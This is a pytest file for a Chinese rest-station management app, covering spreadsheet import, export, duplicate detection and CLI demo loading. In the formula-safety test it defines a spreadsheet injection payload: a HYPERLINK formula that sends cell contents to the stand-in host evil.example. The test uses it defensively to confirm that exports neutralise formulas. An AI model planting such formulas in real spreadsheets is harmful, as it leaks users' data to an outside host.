"""Spreadsheets: the template, imports (dry run, per-row errors, counts, duplicates, scope,
coordinates, all or nothing, audit), exports that re-import unchanged, formula safety, and
`yizhan demo load` keeping people's edits."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import coordTransform
import openpyxl
import pytest
from geopy.distance import geodesic
from sqlalchemy import text

from app.accounts.policy import SYSTEM, Actor
from app.exchange import similar
from app.geo import coords
from app.stations import service
from app.stations.importer import load_keeping_edits
from app.stations.schemas import StationFeatureIn, StationFeaturePatch
from tests.conftest import AUTH
from tests.factories import feature
from tests.people import make_user

URL = "/api/v1/stations/import"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER = [
    "编号",
    "名称",
    "地址",
    "行政区划代码",
    "承办单位类型",
    "运营单位",
    "服务对象",
    "服务设施",
    "开放时间",
    "状态",
    "电话",
    "容纳人数",
    "备注",
    "经度",
    "纬度",
    "坐标系",
]


def row(ext: str, name: str = "花楼街社区驿站", lon: Any = 114.2875, lat: Any = 30.5825, **kw: Any):
    """A template row as a dict by Chinese header (defaults: a valid Jianghan station)."""
    base = {
        "编号": ext,
        "名称": name,
        "地址": "武汉市江汉区花楼街1号",
        "行政区划代码": "420103",
        "承办单位类型": "社区",
        "运营单位": "花楼街社区",
        "服务对象": "户外劳动者",
        "服务设施": "饮用水，微波炉",
        "开放时间": "Mo-Su 08:00-20:00",
        "状态": "正常开放",
        "电话": "027-85551234",
        "容纳人数": 12,
        "备注": None,
        "经度": lon,
        "纬度": lat,
        "坐标系": "wgs84",
    }
    base.update(kw)
    return base


def csv_bytes(rows: list[dict[str, Any]], encoding: str = "utf-8-sig") -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(HEADER)
    for r in rows:
        w.writerow(["" if r[h] is None else r[h] for h in HEADER])
    return buf.getvalue().encode(encoding)


def xlsx_bytes(rows: list[dict[str, Any]]) -> bytes:
    """An XLSX written by openpyxl (not by our writer), first sheet named as a user might."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    ws.append(HEADER)
    for r in rows:
        ws.append([r[h] for h in HEADER])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def upload(client, data: bytes, headers, name="stations.csv", **params):
    params.setdefault("dry_run", "true")
    return client.post(URL, params=params, files={"file": (name, data)}, headers=headers)


def count(conn, table: str = "stations") -> int:
    return conn.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()


def station(conn, ext: str):
    return (
        conn.execute(
            text(
                "SELECT id, name, opening_hours, capacity, amenities, district_code, "
                "ST_X(geom) AS lon, ST_Y(geom) AS lat FROM stations WHERE external_id = :e"
            ),
            {"e": ext},
        )
        .mappings()
        .first()
    )


def create(client, ext: str, **kw) -> int:
    r = client.post("/api/v1/stations", json=feature(ext, **kw), headers=AUTH)
    assert r.status_code == 201, r.text
    return r.json()["id"]


# --- the template --------------------------------------------------------------------------


def test_template_xlsx_has_chinese_headers_drop_downs_and_an_explaining_sheet(client):
    r = client.get("/api/v1/stations/template.xlsx")
    assert r.status_code == 200
    assert r.headers["content-type"] == XLSX
    assert "attachment" in r.headers["content-disposition"]
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["站点", "说明"]
    ws = wb["站点"]
    assert [c.value for c in ws[1]] == HEADER
    lists = {}
    for dv in ws.data_validations.dataValidation:
        assert dv.type == "list"
        col = str(dv.sqref).split(":")[0].rstrip("0123456789")
        lists[col] = dv.formula1.strip('"').split(",")
    # 承办单位类型 E, 服务对象 G, 状态 J, 坐标系 P
    assert set(lists) == {"E", "G", "J", "P"}
    assert "社区" in lists["E"] and "银行网点" in lists["E"]
    assert lists["G"] == ["户外劳动者", "仅限司机", "公众开放"]
    assert "暂停开放" in lists["J"] and "正常开放" in lists["J"]
    assert lists["P"] == ["wgs84", "gcj02", "bd09"]
    help_ws = wb["说明"]
    keys = [help_ws.cell(row=i, column=2).value for i in range(2, 18)]
    assert keys == [
        "external_id",
        "name",
        "address",
        "district_code",
        "host_type",
        "operator",
        "access",
        "amenities",
        "opening_hours",
        "status",
        "phone",
        "capacity",
        "notes",
        "lon",
        "lat",
        "coord_sys",
    ]
    hours = next(r for r in help_ws.iter_rows(values_only=True) if r[1] == "opening_hours")
    assert "开放时间" in hours[3] and "opening_hours" in hours[4]


def test_template_csv_is_the_header_line_with_a_bom(client):
    r = client.get("/api/v1/stations/template.csv")
    assert r.status_code == 200
    assert r.content.startswith(b"\xef\xbb\xbf")
    assert r.content.decode("utf-8-sig").strip() == ",".join(HEADER)


def test_the_filled_in_template_imports(client, conn):
    """Fill the downloaded template with openpyxl as a person would, upload it."""
    wb = openpyxl.load_workbook(io.BytesIO(client.get("/api/v1/stations/template.xlsx").content))
    ws = wb["站点"]
    ws.append([row("TPL-1")[h] for h in HEADER])
    buf = io.BytesIO()
    wb.save(buf)
    r = upload(client, buf.getvalue(), AUTH, name="filled.xlsx", dry_run="false")
    assert r.status_code == 200, r.text
    assert r.json()["written"] == 1
    s = station(conn, "TPL-1")
    assert s["name"] == "花楼街社区驿站" and list(s["amenities"]) == ["drinking_water", "microwave"]


# --- errors: per row and column, nothing written -------------------------------------------


def test_csv_errors_name_row_and_column_and_nothing_is_written(client, conn):
    before = count(conn), count(conn, "station_revisions")
    rows = [
        row("E-1"),
        row("E-2", 开放时间="8点到22点"),
        row("E-3", 服务设施="饮用水，咖啡机"),
        row("E-4", 纬度=None),
        row("E-5", 状态="营业中", 容纳人数="很多"),
        row("E-1", name="重复编号"),
    ]
    r = upload(client, csv_bytes(rows), AUTH)
    assert r.status_code == 200
    body = r.json()
    errors = [(e["row"], e["column"]) for e in body["errors"]]
    # header is row 1: E-2 is row 3, E-3 row 4 …
    assert errors == [
        (3, "opening_hours"),
        (4, "amenities"),
        (5, "lat"),
        (6, "status"),
        (6, "capacity"),
        (7, "external_id"),
    ]
    zh = [e["zh"] for e in body["errors"]]
    assert zh[0].startswith("第 3 行 开放时间: ")
    assert "8点到22点" in zh[0]
    assert "咖啡机" in zh[1]
    assert body["errors"][0]["en"].startswith("row 3, opening_hours: ")
    assert "第 2 行" in body["errors"][-1]["message"]
    assert body["counts"]["errors"] == 6
    assert body["counts"]["new"] == 1  # E-1 alone is valid
    # applying: 422 with the same preview, nothing written
    r = upload(client, csv_bytes(rows), AUTH, dry_run="false")
    assert r.status_code == 422
    assert r.json()["field"] == "rows[3].opening_hours"
    assert r.json()["detail"].startswith("row 3, opening_hours:")
    assert r.json()["preview"]["counts"]["errors"] == 6
    assert (count(conn), count(conn, "station_revisions")) == before


def test_xlsx_errors_name_row_and_column_and_nothing_is_written(client, conn):
    before = count(conn)
    rows = [row("X-1"), row("X-2", 经度="东经114度"), row("X-3", 行政区划代码="4201")]
    data = xlsx_bytes(rows)
    r = upload(client, data, AUTH, name="stations.xlsx", dry_run="false")
    assert r.status_code == 422
    preview = r.json()["preview"]
    assert preview["format"] == "xlsx"
    assert [(e["row"], e["column"], e["header"]) for e in preview["errors"]] == [
        (3, "lon", "经度"),
        (4, "district_code", "行政区划代码"),
    ]
    assert preview["errors"][0]["zh"].startswith("第 3 行 经度: ")
    assert count(conn) == before


def test_unknown_column_and_non_spreadsheets_are_422(client):
    bad = "编号,名称,经度,纬度,颜色\r\nA,b,114.3,30.5,红\r\n".encode()
    r = upload(client, bad, AUTH)
    assert r.status_code == 422 and r.json()["field"] == "header" and "颜色" in r.json()["detail"]
    r = upload(client, b"PK\x03\x04 not really a zip", AUTH, name="x.xlsx")
    assert r.status_code == 422 and r.json()["field"] == "file"
    r = upload(client, b"{not json", AUTH, name="x.geojson")
    assert r.status_code == 422 and r.json()["field"] == "file"
    r = upload(client, b"", AUTH)
    assert r.status_code == 422


# --- dry run counts and changes ------------------------------------------------------------


def test_dry_run_counts_new_changed_unchanged_with_each_changed_field(client, conn):
    create(client, "C-1", lon=114.30, lat=30.60, name="一号站", opening_hours="Mo-Su 08:00-20:00")
    create(client, "C-2", lon=114.31, lat=30.61, name="二号站")
    export = client.get("/api/v1/me/stations/export.csv", headers=AUTH)
    lines = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
    by_id = {ln["编号"]: ln for ln in lines}
    by_id["C-1"]["开放时间"] = "Mo-Fr 09:00-18:00"
    by_id["C-1"]["容纳人数"] = "20"
    by_id["C-1"]["服务设施"] = "卫生间,drinking_water"
    new1 = row("C-3", name="三号站", lon=114.40, lat=30.70)
    new2 = row("C-4", name="四号站", lon=114.41, lat=30.71)
    data = csv_bytes([by_id["C-1"], by_id["C-2"], new1, new2])
    before = count(conn), count(conn, "station_revisions")
    r = upload(client, data, AUTH)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["counts"] | {} == {
        "new": 2,
        "changed": 1,
        "unchanged": 1,
        "skipped": 0,
        "errors": 0,
        "refused": 0,
        "duplicates": 0,
        "unresolved_duplicates": 0,
    }
    (changed,) = body["changed"]
    assert changed["external_id"] == "C-1"
    assert changed["changes"] == {
        "amenities": [["drinking_water", "microwave"], ["drinking_water", "toilet"]],
        "opening_hours": ["Mo-Su 08:00-20:00", "Mo-Fr 09:00-18:00"],
        "capacity": [12, 20],
    }
    assert [n["external_id"] for n in body["new"]] == ["C-3", "C-4"]
    assert body["dry_run"] is True and body["applied"] is False
    assert (count(conn), count(conn, "station_revisions")) == before
    # the same file applied writes exactly the three
    r = upload(client, data, AUTH, dry_run="false")
    assert r.status_code == 200 and r.json()["written"] == 3
    assert count(conn) == before[0] + 2
    assert station(conn, "C-1")["capacity"] == 20


# --- likely duplicates ---------------------------------------------------------------------


def test_name_similarity():
    assert similar.similar("花楼街社区驿站", "花楼街社区工会驿站")  # containment after stripping
    assert similar.similar("江汉路步行街爱心驿站", "江汉路步行街驿站")
    assert not similar.similar("江汉路街道户外劳动者服务站点", "花桥街道户外劳动者服务站点")
    assert not similar.similar("汉口银行江汉支行", "花楼街社区驿站")
    assert similar.similarity("ABC Station", "abc-station") == 1.0
    # bigram Jaccard: 武汉天地/武汉天街 share 武汉, 汉天 of 4 bigrams → 0.5
    assert similar.similarity("武汉天地", "武汉天街") == pytest.approx(0.5)


def test_close_pairs_matches_brute_force():
    import random

    rng = random.Random(7)
    pts = [(114.3 + rng.uniform(0, 0.003), 30.5 + rng.uniform(0, 0.003)) for _ in range(150)]
    got = {(i, j) for i, j, _ in similar.close_pairs(pts, 50.0)}
    want = {
        (i, j)
        for i in range(len(pts))
        for j in range(i + 1, len(pts))
        if geodesic(pts[i][::-1], pts[j][::-1]).m <= 50.0 * 0.99  # sphere vs spheroid
    }
    assert want <= got
    assert all(geodesic(pts[i][::-1], pts[j][::-1]).m <= 50.5 for i, j in got)


def _offset(lon: float, lat: float, east_m: float) -> tuple[float, float]:
    return lon + east_m / (111_320.0 * 0.8607), lat


def test_near_station_with_a_similar_name_is_a_likely_duplicate(client, conn):
    lon, lat = 114.2900, 30.5900
    sid = create(client, "D-OLD", lon=lon, lat=lat, name="花楼街社区驿站")
    create(client, "wh-007", lon=114.35, lat=30.65, name="别处的站")
    near = _offset(lon, lat, 20)
    far = _offset(lon, lat, 300)
    rows = [
        row("D-NEW", name="花楼街社区工会驿站", lon=near[0], lat=near[1]),  # 20 m, similar
        row("D-BANK", name="汉口银行江汉支行", lon=near[0], lat=near[1]),  # 20 m, other name
        row("D-FAR", name="花楼街社区驿站", lon=far[0], lat=far[1]),  # same name, 300 m
        row("WH007", name="新站", lon=114.36, lat=30.66),  # the same id spelled differently
    ]
    data = csv_bytes(rows)
    r = upload(client, data, AUTH)
    body = r.json()
    dups = {d["external_id"]: d for d in body["duplicates"]}
    assert set(dups) == {"D-NEW", "WH007"}
    (m,) = dups["D-NEW"]["matches"]
    assert m["reason"] == "nearby" and m["station_id"] == sid
    assert 19.0 < m["distance_m"] < 21.0
    assert dups["WH007"]["matches"][0]["reason"] == "external_id"
    assert dups["WH007"]["matches"][0]["external_id"] == "wh-007"
    assert body["counts"]["unresolved_duplicates"] == 2
    before = count(conn)
    # undecided → 409, nothing written
    r = upload(client, data, AUTH, dry_run="false")
    assert r.status_code == 409, r.text
    assert r.json()["field"] == "rows[2].external_id"
    assert count(conn) == before
    # skip one, confirm the rest
    r = upload(client, data, AUTH, dry_run="false", skip="D-NEW", confirm_duplicates="true")
    assert r.status_code == 200, r.text
    assert r.json()["written"] == 3
    assert station(conn, "D-NEW") is None
    assert station(conn, "WH007") is not None and station(conn, "D-BANK") is not None


def test_two_new_rows_of_one_file_close_together_are_likely_duplicates(client):
    a = row("F-1", name="常青花园爱心驿站", lon=114.2, lat=30.62)
    b_lon, b_lat = _offset(114.2, 30.62, 10)
    b = row("F-2", name="常青花园驿站", lon=b_lon, lat=b_lat)
    body = upload(client, csv_bytes([a, b]), AUTH).json()
    (d,) = body["duplicates"]
    assert d["row"] == 3 and d["matches"][0]["reason"] == "same_file"
    assert d["matches"][0]["row"] == 2


# --- rights, audit -------------------------------------------------------------------------


def test_apply_is_audited_per_station_with_channel_import_and_the_actor(client, conn):
    da = make_user(conn, "sheet-da", "district_admin", districts=("420103",))
    create(client, "A-1", name="甲站", lon=114.28, lat=30.58)
    same = {"地址": "武汉市江汉区江汉路100号", "运营单位": "江汉区总工会"}  # as tests.factories
    rows = [
        row("A-1", name="甲站改名", lon=114.28, lat=30.58, **same),
        row("A-2", name="乙站", lon=114.29),
    ]
    r = upload(client, csv_bytes(rows), da.headers, dry_run="false")
    assert r.status_code == 200, r.text
    revs = conn.execute(
        text(
            "SELECT s.external_id, r.op, r.action, r.actor_kind, r.actor_id, r.actor_name, "
            "r.channel, r.changes FROM station_revisions r JOIN stations s ON s.id = r.station_id "
            "WHERE s.external_id IN ('A-1', 'A-2') AND r.channel = 'import' ORDER BY r.id"
        )
    ).mappings()
    got = [
        (x["external_id"], x["op"], x["actor_kind"], x["actor_name"], x["actor_id"]) for x in revs
    ]
    assert got == [
        ("A-1", "update", "user", "sheet-da", da.id),
        ("A-2", "create", "user", "sheet-da", da.id),
    ]
    last = conn.execute(
        text(
            "SELECT action, changes FROM station_revisions r JOIN stations s "
            "ON s.id = r.station_id WHERE s.external_id = 'A-1' ORDER BY r.id DESC LIMIT 1"
        )
    ).one()
    assert last.action == "import" and last.changes == {"name": ["甲站", "甲站改名"]}


def test_scope_refusal_writes_nothing(client, conn):
    da = make_user(conn, "sheet-da2", "district_admin", districts=("420103",))
    create(client, "S-OUT", district_code="420104", lon=114.26, lat=30.57)
    rows = [
        row("S-IN", name="区内新站", lon=114.29),
        row("S-NEW-OUT", name="区外新站", lon=114.30, 行政区划代码="420104"),
        row("S-OUT", name="区外已有站", lon=114.26, lat=30.57, 行政区划代码="420103"),
    ]
    before = count(conn), count(conn, "station_revisions")
    body = upload(client, csv_bytes(rows), da.headers).json()
    assert [(e["row"], e["column"]) for e in body["refused"]] == [
        (3, "district_code"),
        (4, "external_id"),
    ]
    assert "超出您的管辖范围" in body["refused"][0]["zh"]
    r = upload(client, csv_bytes(rows), da.headers, dry_run="false")
    assert r.status_code == 403
    assert r.json()["field"] == "rows[3].district_code"
    assert (count(conn), count(conn, "station_revisions")) == before


def test_managers_planners_and_anonymous_may_not_import(client, conn):
    sid = create(client, "M-1")
    manager = make_user(conn, "sheet-mgr", "manager", stations=(sid,))
    planner = make_user(conn, "sheet-planner", "planner")
    data = csv_bytes([row("M-1")])
    for who, status in ((manager.headers, 403), (planner.headers, 403), ({}, 401)):
        r = upload(client, data, who)
        assert r.status_code == status, r.text
    r = upload(client, data, manager.headers, dry_run="false")
    assert r.status_code == 403 and r.json()["field"] == "role"


# --- coordinates ---------------------------------------------------------------------------


def test_gcj02_and_bd09_rows_land_at_their_wgs84_position(client, conn):
    gcj = (114.293456, 30.587654)  # as copied from Amap
    bd = (114.305678, 30.601234)  # as copied from Baidu Maps
    rows = [
        row("G-1", name="高德坐标站", lon=gcj[0], lat=gcj[1], 坐标系="gcj02"),
        row("B-1", name="百度坐标站", lon=bd[0], lat=bd[1], 坐标系=None),
    ]
    r = upload(client, csv_bytes(rows), AUTH, dry_run="false", coord_sys="bd09")
    assert r.status_code == 200, r.text
    g = station(conn, "G-1")
    want = coords.gcj02_to_wgs84(*gcj)
    assert geodesic((g["lat"], g["lon"]), (want[1], want[0])).m < 1.0
    # independently: the coordTransform package's forward transform brings it back to GCJ-02
    back = coordTransform.wgs84_to_gcj02(g["lon"], g["lat"])
    assert geodesic((back[1], back[0]), (gcj[1], gcj[0])).m < 1.0
    b = station(conn, "B-1")
    ref_gcj = coordTransform.wgs84_to_gcj02(b["lon"], b["lat"])
    ref_bd = coordTransform.gcj02_to_bd09(*ref_gcj)
    assert geodesic((ref_bd[1], ref_bd[0]), (bd[1], bd[0])).m < 1.0
    # and 20 km from where it would be as WGS-84? no: hundreds of metres — the shift is real
    assert geodesic((g["lat"], g["lon"]), (gcj[1], gcj[0])).m > 100


# --- exports -------------------------------------------------------------------------------


def _fill(client) -> None:
    create(client, "R-1", name="江汉一站", amenities=["toilet", "wifi", "drinking_water"])
    create(
        client,
        "R-2",
        lon=114.27,
        lat=30.57,
        name="江汉二站",
        address=None,
        phone=None,
        capacity=None,
        opening_hours=None,
        amenities=[],
        status="temporarily_closed",
        notes="周末装修",
    )
    create(client, "R-3", lon=114.21, lat=30.62, name="硚口站", district_code="420104")


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "geojson"])
def test_export_reimports_unchanged(client, conn, fmt):
    _fill(client)
    total = count(conn)
    r = client.get(f"/api/v1/me/stations/export.{fmt}", headers=AUTH)
    assert r.status_code == 200
    assert f'filename="stations.{fmt}"' in r.headers["content-disposition"]
    body = upload(client, r.content, AUTH, name=f"export.{fmt}").json()
    assert body["format"] == fmt
    assert body["counts"]["unchanged"] == total
    assert body["counts"]["new"] == body["counts"]["changed"] == body["counts"]["errors"] == 0
    assert body["duplicates"] == []


def test_export_is_the_callers_scope(client, conn):
    _fill(client)
    da = make_user(conn, "sheet-exporter", "district_admin", districts=("420103",))
    want = set(
        conn.execute(
            text("SELECT external_id FROM stations WHERE district_code LIKE '420103%'")
        ).scalars()
    )
    r = client.get("/api/v1/me/stations/export.geojson", headers=da.headers)
    assert r.status_code == 200
    got = {f["properties"]["external_id"] for f in r.json()["features"]}
    assert got == want and "R-3" not in got and {"R-1", "R-2"} <= got
    wb = openpyxl.load_workbook(
        io.BytesIO(client.get("/api/v1/me/stations/export.xlsx", headers=da.headers).content)
    )
    assert {c.value for c in wb["站点"]["A"][1:]} == want
    assert client.get("/api/v1/me/stations/export.csv").status_code == 401
    # the district admin's export re-imports unchanged for them
    data = client.get("/api/v1/me/stations/export.csv", headers=da.headers).content
    body = upload(client, data, da.headers).json()
    assert body["counts"]["unchanged"] == len(want) and body["counts"]["refused"] == 0


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_exports_are_formula_safe(client, conn):
    create(client, "H-1", name=HOSTILE, operator="@SUM(A1:A9)", notes="+1 -2", address="-3")
    xlsx = client.get("/api/v1/me/stations/export.xlsx", headers=AUTH).content
    # no cell of the workbook is a formula
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = openpyxl.load_workbook(io.BytesIO(xlsx))["站点"]
    cells = {c.value: c for c in ws[2]}
    name_cell = ws.cell(row=2, column=2)
    assert name_cell.value == HOSTILE and name_cell.data_type == "s"
    assert name_cell.quotePrefix  # shown as text, stays text when edited
    assert ws.cell(row=2, column=6).value == "@SUM(A1:A9)" and ws.cell(row=2, column=6).quotePrefix
    assert "@SUM(A1:A9)" in cells
    text_csv = client.get("/api/v1/me/stations/export.csv", headers=AUTH).content.decode(
        "utf-8-sig"
    )
    (line,) = [ln for ln in csv.DictReader(io.StringIO(text_csv)) if ln["编号"] == "H-1"]
    assert line["名称"] == "'" + HOSTILE
    assert line["运营单位"] == "'@SUM(A1:A9)" and line["备注"] == "'+1 -2" and line["地址"] == "'-3"
    # both re-import as the same text: unchanged
    for data, name in ((xlsx, "e.xlsx"), (text_csv.encode(), "e.csv")):
        body = upload(client, data, AUTH, name=name).json()
        assert body["counts"]["changed"] == 0 and body["counts"]["errors"] == 0, body


# --- transport: raw bodies, encodings, size ------------------------------------------------


def test_raw_bodies_gbk_csv_and_geojson(client, conn):
    gbk = csv_bytes([row("GBK-1", name="汉正街驿站")], encoding="gb18030")
    r = client.post(
        URL, params={"dry_run": "false"}, content=gbk, headers={**AUTH, "content-type": "text/csv"}
    )
    assert r.status_code == 200, r.text
    assert station(conn, "GBK-1")["name"] == "汉正街驿站"
    doc = {
        "type": "FeatureCollection",
        "features": [
            feature("GJ-1", name="要素一"),
            {"type": "Feature", "geometry": {"type": "Point", "coordinates": [114.3, 95]},
             "properties": {"external_id": "GJ-2", "name": "x", "colour": "red"}},
        ],
    }  # fmt: skip
    r = client.post(
        URL,
        content=json.dumps(doc).encode(),
        headers={**AUTH, "content-type": "application/geo+json"},
    )
    body = r.json()
    assert body["format"] == "geojson" and body["counts"]["new"] == 1
    assert {(e["row"], e["column"]) for e in body["errors"]} == {(2, "colour"), (2, "lat")}
    assert body["errors"][0]["zh"].startswith("第 2 个要素")


def test_an_upload_larger_than_the_json_body_limit_is_accepted(client, conn, settings):
    rows = [
        row(f"BIG-{i:04d}", name=f"大文件站点{i}", lon=114.0 + i * 0.001, lat=30.4, 备注="备" * 100)
        for i in range(400)
    ]
    data = csv_bytes(rows)
    assert len(data) > settings.max_body_bytes
    r = upload(client, data, AUTH)
    assert r.status_code == 200, r.text
    assert r.json()["counts"]["new"] == 400


# --- yizhan demo load keeps people's edits -------------------------------------------------


def test_demo_reload_keeps_stations_edited_since_the_last_load(conn, ctx):
    feats = [
        StationFeatureIn.model_validate(feature(f"DEMO-{i}", lon=114.2 + i / 100, name=f"样例{i}"))
        for i in range(4)
    ]
    n, kept = load_keeping_edits(conn, feats, ctx, SYSTEM)
    assert (n, kept) == (4, [])
    ids = dict(
        conn.execute(text("SELECT external_id, id FROM stations WHERE external_id LIKE 'DEMO-%'"))
        .tuples()
        .all()
    )
    person = make_user(conn, "demo-editor", "district_admin", districts=("420103",))
    editor = Actor(
        kind="user", role="district_admin", name="demo-editor", user_id=person.id,
        districts=("420103",),
    )  # fmt: skip
    patch = StationFeaturePatch.model_validate(
        {"type": "Feature", "properties": {"opening_hours": "Mo-Fr 09:00-17:00"}}
    )
    service.patch_station(conn, ids["DEMO-1"], patch, None, ctx, editor)
    service.delete_station(conn, ids["DEMO-2"], editor)
    # a system change that is not a person's edit (a district upload re-assigning) is no edit
    conn.execute(
        text("SELECT set_config('yizhan.actor', :a, true)"),
        {"a": json.dumps({"kind": "system", "name": "system", "channel": "cli"})},
    )
    conn.execute(
        text("UPDATE stations SET district_code = '420103' WHERE id = :i"), {"i": ids["DEMO-3"]}
    )
    reloaded = [
        StationFeatureIn.model_validate(
            feature(f"DEMO-{i}", lon=114.2 + i / 100, name=f"样例{i}（新）", opening_hours="24/7")
        )
        for i in range(4)
    ]
    n, kept = load_keeping_edits(conn, reloaded, ctx, SYSTEM)
    assert kept == ["DEMO-1", "DEMO-2"]
    assert n == 2
    assert station(conn, "DEMO-1")["opening_hours"] == "Mo-Fr 09:00-17:00"
    assert station(conn, "DEMO-1")["name"] == "样例1"
    assert station(conn, "DEMO-2") is None  # deleted by a person: stays deleted
    assert station(conn, "DEMO-0")["name"] == "样例0（新）"
    assert station(conn, "DEMO-3")["opening_hours"] == "24/7"


# --- the command line (its own database: the CLI commits) -----------------------------------


@pytest.fixture(scope="module")
def cli_settings():
    from app.config import Settings
    from app.db import migrate
    from tests.conftest import fresh_database

    url = fresh_database("sheet_cli")
    migrate.upgrade(url)
    return Settings(database_url=url, hours_auto_refresh=False)


@pytest.fixture
def run(monkeypatch, cli_settings):
    from typer.testing import CliRunner

    from app import cli

    monkeypatch.setattr(cli, "get_settings", lambda: cli_settings)
    monkeypatch.delenv("YIZHAN_AS", raising=False)
    runner = CliRunner()
    return lambda *args: runner.invoke(cli.cli, list(args))


def _flat(result) -> str:
    return " ".join(result.output.split())


def test_cli_demo_load_keeps_edits_and_says_how_many(run, cli_settings, tmp_path):
    from sqlalchemy import create_engine

    def sample(suffix: str) -> Path:
        feats = [
            feature(f"CLI-DEMO-{i}", lon=114.2 + i / 100, name=f"样例{i}{suffix}") for i in range(3)
        ]
        path = tmp_path / f"sample{suffix or 0}.geojson"
        path.write_text(json.dumps({"type": "FeatureCollection", "features": feats}))
        return path

    first = run("demo", "load", "--path", str(sample("")))
    assert first.exit_code == 0, first.output
    assert "kept 0 stations" in _flat(first)
    engine = create_engine(cli_settings.database_url)
    with engine.begin() as conn:  # a person's edit, as the API would record it
        conn.execute(
            text("SELECT set_config('yizhan.actor', :a, true)"),
            {"a": json.dumps({"kind": "user", "id": 1, "name": "zhang", "channel": "api"})},
        )
        conn.execute(
            text("UPDATE stations SET name = '张三改的名' WHERE external_id = 'CLI-DEMO-1'")
        )
    again = run("demo", "load", "--path", str(sample("（新）")))
    assert again.exit_code == 0, again.output
    out = _flat(again)
    assert "loaded 2 sample stations" in out and "kept 1 stations" in out and "CLI-DEMO-1" in out
    with engine.connect() as conn:
        names = dict(
            conn.execute(
                text("SELECT external_id, name FROM stations WHERE external_id LIKE 'CLI-DEMO-%'")
            ).all()
        )
    engine.dispose()
    assert names == {
        "CLI-DEMO-0": "样例0（新）",
        "CLI-DEMO-1": "张三改的名",
        "CLI-DEMO-2": "样例2（新）",
    }


def test_cli_imports_xlsx_and_csv_with_a_dry_run(run, cli_settings, tmp_path):
    from sqlalchemy import create_engine

    path = tmp_path / "stations.xlsx"
    path.write_bytes(
        xlsx_bytes([row("CLI-X-1", lon=114.5), row("CLI-X-2", name="二站", lon=114.6)])
    )
    dry = run("stations", "import", str(path), "--dry-run")
    assert dry.exit_code == 0, dry.output
    assert "2 new, 0 changed" in _flat(dry) and "nothing was written" in _flat(dry)
    engine = create_engine(cli_settings.database_url)

    def n() -> int:
        with engine.connect() as conn:
            return conn.execute(
                text("SELECT count(*) FROM stations WHERE external_id LIKE 'CLI-X-%'")
            ).scalar_one()

    assert n() == 0
    done = run("stations", "import", str(path))
    assert done.exit_code == 0, done.output
    assert "imported 2 stations" in _flat(done)
    assert n() == 2
    bad = tmp_path / "bad.csv"
    bad.write_bytes(csv_bytes([row("CLI-X-3", 开放时间="全天")]))
    failed = run("stations", "import", str(bad))
    assert failed.exit_code == 2
    assert "第 2 行 开放时间" in _flat(failed) and "nothing was imported" in _flat(failed)
    assert n() == 2
    engine.dispose()


# --- the OpenAPI document says what these routes send ----------------------------------------


def test_responses_match_the_openapi_document(client, conn):
    import jsonschema

    doc = client.app.openapi()
    sid = create(client, "DOC-S-1")
    manager = make_user(conn, "doc-sheet-mgr", "manager", stations=(sid,))
    good = csv_bytes([row("DOC-S-2", lon=114.4)])
    bad = csv_bytes([row("DOC-S-3", 开放时间="bad hours")])
    calls = [
        ("GET", "/api/v1/stations/template.xlsx", client.get("/api/v1/stations/template.xlsx")),
        ("GET", "/api/v1/stations/template.csv", client.get("/api/v1/stations/template.csv")),
        ("POST", URL, upload(client, good, AUTH)),
        ("POST", URL, upload(client, bad, AUTH, dry_run="false")),
        ("POST", URL, upload(client, good, manager.headers)),
        ("POST", URL, upload(client, good, {})),
        ("POST", URL, upload(client, good, AUTH, coord_sys="utm")),
        ("POST", URL, upload(client, good, AUTH, dry_run="false")),
    ]
    for fmt in ("xlsx", "csv", "geojson"):
        path = f"/api/v1/me/stations/export.{fmt}"
        calls += [("GET", path, client.get(path, headers=AUTH)), ("GET", path, client.get(path))]
    for method, path, r in calls:
        documented = doc["paths"][path][method.lower()]["responses"]
        assert str(r.status_code) in documented, (path, r.status_code)
        entry = documented[str(r.status_code)]
        for name, header in entry.get("headers", {}).items():
            if header.get("required"):
                assert name.lower() in r.headers, (path, name)
        media = r.headers["content-type"].split(";")[0]
        assert media in entry["content"], (path, r.status_code, media)
        if "json" in media:
            schema = {**entry["content"][media]["schema"], "components": doc["components"]}
            jsonschema.Draft202012Validator(schema).validate(r.json())
    assert [c[2].status_code for c in calls[2:8]] == [200, 422, 403, 401, 422, 200]


def test_lifecycle_fields_the_sheet_does_not_carry_are_kept_or_refused(client, conn):
    a = create(client, "L-KEEP", lon=114.31, lat=30.61, name="留站")
    t = create(client, "L-TEMP", lon=114.32, lat=30.62, name="暂停站")
    d = create(client, "L-DUP", lon=114.33, lat=30.63, name="重复站")
    conn.execute(
        text(
            "UPDATE stations SET status = 'temporarily_closed', status_reason = '装修', "
            "closed_until = now() + interval '10 days' WHERE id = :t"
        ),
        {"t": t},
    )
    conn.execute(
        text("UPDATE stations SET status = 'duplicate', duplicate_of = :a WHERE id = :d"),
        {"a": a, "d": d},
    )
    export = client.get("/api/v1/me/stations/export.csv", headers=AUTH).content.decode("utf-8-sig")
    lines = {ln["编号"]: ln for ln in csv.DictReader(io.StringIO(export))}
    assert lines["L-TEMP"]["状态"] == "暂停开放" and lines["L-DUP"]["状态"] == "重复（已合并）"
    # unchanged as exported; a phone change keeps the closure, its end and its reason
    lines["L-TEMP"]["电话"] = "027-11112222"
    r = upload(client, csv_bytes(list(lines.values())), AUTH, dry_run="false")
    assert r.status_code == 200, r.text
    assert r.json()["counts"]["changed"] == 1
    kept = conn.execute(
        text("SELECT status, status_reason, closed_until IS NOT NULL FROM stations WHERE id = :t"),
        {"t": t},
    ).one()
    assert tuple(kept) == ("temporarily_closed", "装修", True)
    # reopening a station closed until a set time, leaving or marking duplicate: the editor's
    lines["L-TEMP"]["状态"] = "正常开放"
